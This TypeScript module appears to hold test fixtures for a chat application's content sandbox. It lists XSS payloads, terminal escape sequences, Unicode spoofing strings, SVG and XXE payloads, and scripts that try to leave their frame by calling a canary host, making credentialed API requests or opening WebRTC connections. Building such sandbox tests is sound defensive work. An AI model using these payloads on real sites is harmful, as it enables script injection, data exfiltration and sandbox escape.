const HACK = 'window.hacked=1;top.hacked=1;parent.hacked=1'

/** Texts that are something else to a page that takes them for more than text. */
export function texts(canary: string): readonly string[] {
  const url = `http://${canary}`
  return [
    `<script>${HACK}</script>`,
    `<img src=x onerror="${HACK}">`,
    `<img src="${url}/img">`,
    `<svg onload="${HACK}"><script>${HACK}</script></svg>`,
    `<iframe srcdoc="<script>${HACK}</script>"></iframe>`,
    `<iframe src="javascript:${HACK}"></iframe>`,
    `<a href="javascript:${HACK}">click</a>`,
    `<style>@import "${url}/css"; body { display: none }</style>`,
    `<link rel="stylesheet" href="${url}/link">`,
    `<meta http-equiv="refresh" content="0;url=${url}/meta">`,
    `<base href="${url}/">`,
    `<form action="${url}/form"><button>x</button></form>`,
    `<object data="${url}/object"></object>`,
    `<math><mtext></math><img src=x onerror=${HACK}>`,
    `"><script>${HACK}</script>`,
    `'-${HACK}-'`,
    `\${${HACK}}{{constructor.constructor('${HACK}')()}}`,
    `javascript:${HACK}`,
    `data:text/html,<script>${HACK}</script>`,
    `\u001b]8;;javascript:${HACK}\u001b\\link\u001b]8;;\u001b\\`,
    '\u001b]0;title\u0007\u001b[2J\u001b[H\u001b[999A\u001b[?1049h',
    '\u001b[31m'.repeat(500),
    '\u001b]52;c;aGFja2Vk\u0007',
    '\u001bP$q"p\u001b\\\u001b_G\u001b\\',
    '\u202egnp.exe\u2066\u2069\u200b\u200d\ufeff',
    'e\u0301'.repeat(300) + '\u0e33'.repeat(300),
    `Z${'\u0334\u0335\u0336'.repeat(300)}`,
    'x'.repeat(200_000),
    '\r'.repeat(2000) + '\b'.repeat(2000),
    '\ud83d\udc69\u200d'.repeat(500),
    '--></script></style></textarea></title>',
    '&lt;script&gt;&#60;script&#62;\\u003cscript\\u003e',
  ]
}

function rtcCode(port: string): string {
  return `const p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${port}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`
}

/** A frame that sends a datagram. */
function rtcFrame(port: string): string {
  return `<iframe srcdoc="<script>${rtcCode(port)}</script>"></iframe>`
}

/** A document that sends one, and says when it has begun. */
export function rtcDocument(port: string): string {
  return `<!doctype html><body><script>${rtcCode(port)}.then(()=>document.body.append('offered'))</script>`
}

/** Documents that try to reach out of their frame. */
export function documents(canary: string): readonly string[] {
  const [address = '', port = '9'] = canary.split('/')
  const url = `http://${address}`
  const script = (code: string) => `<script>try{${code}}catch(e){document.body.append(String(e))}</script>`
  return [
    script(HACK),
    script('top.document.title="hacked";parent.document.body.innerHTML=""'),
    script(`fetch("${url}/fetch",{mode:"no-cors"}).catch(()=>{})`),
    script('fetch("/api/v1/auth/self",{credentials:"include"}).then(()=>parent.hacked=1,()=>{})'),
    script('fetch("/api/v1/executions",{method:"POST",credentials:"include",body:"{}"}).catch(()=>{})'),
    script(`new Image().src="${url}/image"`),
    script(`navigator.sendBeacon("${url}/beacon","x")`),
    script(`new WebSocket("ws://${address}/socket")`),
    script(`new EventSource("${url}/events")`),
    script(`const x=new XMLHttpRequest();x.open("GET","${url}/xhr");x.send()`),
    script(`location.href="${url}/location"`),
    script(`top.location.href="${url}/top"`),
    script(`open("${url}/open")`),
    script(
      `document.body.innerHTML='<form action="${url}/form" method=post></form>';document.forms[0].submit()`,
    ),
    script(
      `document.head.innerHTML='<base href="${url}/"><link rel=prefetch href="${url}/prefetch"><link rel=dns-prefetch href="//x.${address}">'`,
    ),
    script('localStorage.x=1;sessionStorage.x=1;document.cookie="x=1"'),
    script('navigator.serviceWorker.register("/x.js").catch(()=>{})'),
    script(`new Worker(URL.createObjectURL(new Blob(['fetch("${url}/worker")'])))`),
    script(`import("${url}/module.js").catch(()=>{})`),
    script(`const s=document.createElement("script");s.src="${url}/script.js";document.body.append(s)`),
    script(
      `const p=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${port}"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))`,
    ),
    script(
      `const f=document.createElement("iframe");f.srcdoc='<script>const p=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${port}"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))<'+'/script>';document.body.append(f)`,
    ),
    script(
      `const f=document.createElement("iframe");document.body.append(f);const P=f.contentWindow.RTCPeerConnection;const p=new P({iceServers:[{urls:"stun:127.0.0.1:${port}"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))`,
    ),
    // The same in shadow trees, by every way to make one; what is taken away is an error.
    ...[
      'const h=document.createElement("div");document.body.append(h);h.attachShadow({mode:"closed"}).innerHTML=F',
      'const h=document.createElement("div");document.body.append(h);h.setHTMLUnsafe("<div><template shadowrootmode=open>"+F+"</template></div>")',
      'document.write("<div><template shadow"+"rootmode=open>"+F+"</template></div>")',
      'Element.prototype.remove=()=>{};MutationObserver.prototype.observe=()=>{};document.body.insertAdjacentHTML("beforeend",F)',
      'setTimeout(()=>{document.body.append(document.createRange().createContextualFragment(F))},50)',
      'const d=document.implementation.createHTMLDocument();d.body.innerHTML=F;document.body.append(document.adoptNode(d.body.firstChild))',
    ].map((code) => script(`const F=${JSON.stringify(rtcFrame(port)).replaceAll('</', '<\\/')};${code}`)),
    `<div><template shadowrootmode="open">${rtcFrame(port)}</template></div>`,
    rtcFrame(port),
    script('for(let i=0;i<50;i++)parent.postMessage({kind:"agentchat-frame-height",height:1e9},"*")'),
    script(
      'parent.postMessage({kind:"agentchat-frame-height",height:"javascript:1"},"*");parent.postMessage(null,"*")',
    ),
    script('alert(1);confirm(1);prompt(1);print()'),
    script(
      'document.documentElement.requestFullscreen&&document.documentElement.requestFullscreen().catch(()=>{})',
    ),
    script('navigator.geolocation.getCurrentPosition(()=>{});navigator.clipboard.readText().catch(()=>{})'),
    script(
      'const a=document.createElement("a");a.href="data:text/html,x";a.download="evil.html";document.body.append(a);a.click()',
    ),
    `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${url}/policy">`,
    `</body></html><script>${HACK}</script>`,
    `<style>@import "${url}/css";body{background:url(${url}/background)}@font-face{font-family:x;src:url(${url}/font)}*{font-family:x}</style>`,
    `<video src="${url}/video" autoplay></video><audio src="${url}/audio" autoplay></audio><embed src="${url}/embed">`,
    `<a href="${url}/ping" ping="${url}/ping" target="_top" id="a">x</a>${script('document.getElementById("a").click()')}`,
    `<portal src="${url}/portal"></portal><object data="${url}/object"></object>`,
  ]
}

/** SVG with more in it than a picture. */
export function pictures(canary: string): readonly string[] {
  const url = `http://${canary}`
  const svg = (content: string, attributes = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" ${attributes}>${content}</svg>`
  return [
    svg(`<script>${HACK}</script>`),
    svg('', `onload="${HACK}"`),
    svg(`<image href="${url}/image" width="10" height="10"/>`),
    svg(`<use xlink:href="${url}/use#x"/>`),
    svg(
      `<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}/frame"></iframe></foreignObject>`,
    ),
    svg(`<style>@import "${url}/css"; rect { fill: url(${url}/fill) }</style><rect width="9" height="9"/>`),
    svg(`<a xlink:href="javascript:${HACK}"><rect width="9" height="9"/></a>`),
    svg(`<animate attributeName="href" values="javascript:${HACK}"/>`),
    `<?xml version="1.0"?><?xml-stylesheet href="${url}/sheet"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${url}/entity">]><svg xmlns="http://www.w3.org/2000/svg">&amp;</svg>`,
    '<svg',
  ]
}
